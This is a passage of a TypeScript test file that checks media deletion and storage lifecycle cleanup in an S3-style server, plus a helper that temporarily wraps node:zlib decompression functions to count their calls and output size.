  const keys = (await keysOnDisk(documents())).filter((k) => k.includes(id));
  expect(keys.filter((k) => k.startsWith(`media/${id}.`))).toHaveLength(1);
  const link = await call().post<{ Data: { URL: string } }>('/medias/download-url', { MediaId: id }, token);
  expect(link.status).toBe(200);
  expect((await remove(id)).status).toBe(200);
  expect((await storedKeys(documents())).filter((k) => k.includes(id))).toEqual([]);
  const read = await fetch(link.body.Data.URL);
  expect({ status: read.status, code: (await s3Answer(read)).code }).toEqual({
    status: 404,
    code: 'NoSuchKey',
  });
  await lifecycleADayLater();
  expect((await keysOnDisk(documents())).filter((k) => k.includes(id))).toEqual([]);
  const left: string[] = [];
  for (const key of keys) {
    const folder = join(dataDir, keyFolder(key));
    if (existsSync(folder)) left.push(...(await readdir(folder)).map((f) => `${keyFolder(key)}/${f}`));
  }
  expect(left).toEqual([]);
}

/**
 * Counts every decompression in this process (the server runs in it): each of node:zlib's inflate,
 * gunzip, unzip and brotli entry points is wrapped, in the module object and in its ES module view.
 */
function countDecompression() {
  const zlib = createRequire(import.meta.url)('node:zlib') as Record<string, unknown>;
  const names = Object.keys(zlib).filter((n) =>
    /^(inflate|inflateRaw|gunzip|unzip|brotliDecompress|zstdDecompress)(Sync)?$|^create(Inflate|InflateRaw|Gunzip|Unzip|BrotliDecompress|ZstdDecompress)$/.test(
      n,
    ),
  );
  const originals = new Map(names.map((n) => [n, zlib[n] as (...a: unknown[]) => unknown]));
  // Some are read-only properties: each is defined again, as it was, around its wrapper.
  const define = (n: string, value: unknown) =>
    Object.defineProperty(zlib, n, { ...Object.getOwnPropertyDescriptor(zlib, n), value });
  const counter = {
    calls: 0,
    outputBytes: 0,
    names: [] as string[],
    restore() {
      for (const [n, f] of originals) define(n, f);
      syncBuiltinESMExports();
    },
  };
  for (const [n, original] of originals) {
    define(n, (...args: unknown[]) => {
      counter.calls++;
      counter.names.push(n);
      const out = original(...args);
      if (out instanceof Uint8Array) counter.outputBytes += out.length;
      return out;
    });
  }
  syncBuiltinESMExports();
  return counter;
}
